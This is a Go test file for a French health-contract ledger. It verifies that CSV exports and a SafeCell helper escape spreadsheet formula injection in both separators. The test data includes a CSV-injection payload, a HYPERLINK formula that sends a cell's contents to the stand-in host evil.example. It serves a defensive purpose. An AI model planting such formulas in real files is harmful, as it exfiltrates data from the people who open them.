package query_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/google/uuid"

	"github.com/cptsledger/ledger/query"
)

// No cell of an export starts a formula (CSV injection): a CPTS and a
// CPAM named to run one come out as text, in both separators; negative
// amounts stay numbers. (An ARS is one of the eighteen agencies now: a
// command naming another is refused; SafeCell covers the cells of older
// ledgers.)
func TestExportCellsAreNotFormulas(t *testing.T) {
	l := newLedger(t)
	id := uuid.New()
	name := `=HYPERLINK("http://evil.example/?"&A2,"Voir")`
	ars := `ARS Grand Est`
	l.submitAll(t,
		fmt.Sprintf(`{"type":"SignContract","command_id":"s","contract_id":%q,"cpts":{"id":"c-1","name":%q},"ars":%q,"cpam":"@SUM(1+1)","population":50000,"signed_on":"2020-01-15","missions":["access","pathways","prevention"],"snp_regulation":false,"indicators":[{"mission":"access","code":"a","weight":"1","target":"1"},{"mission":"pathways","code":"p","weight":"1","target":"1"},{"mission":"prevention","code":"v","weight":"1","target":"1"}]}`, id, name, ars),
		fmt.Sprintf(`{"type":"DecideDuePayments","command_id":"d","contract_id":%q,"as_of":"2020-02-01"}`, id))
	for _, sep := range []rune{',', ';'} {
		var b bytes.Buffer
		if err := query.WriteCSV(context.Background(), l.reads, &b, query.CSVStyle{Sep: sep}, query.ExportFilter{PerPayment: true}, query.Window{}); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&b)
		r.Comma = sep
		rows, err := r.ReadAll()
		if err != nil || len(rows) < 2 {
			t.Fatalf("%d rows %v", len(rows), err)
		}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("sep %q: a cell starts a formula: %q", sep, cell)
				}
			}
			if row[2] != "'"+name || row[4] != ars || row[3] != "'@SUM(1+1)" {
				t.Errorf("sep %q: beneficiary %q, ars %q, cpam %q", sep, row[2], row[4], row[3])
			}
		}
	}
	for cell, want := range map[string]string{"-1393.18": "-1393.18", "-1393,18": "-1393,18", "+5": "+5", "-x": "'-x", "\tA": "'\tA", "=1+1": "'=1+1", "Rhône": "Rhône"} {
		if got := query.SafeCell(cell); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", cell, got, want)
		}
	}
}
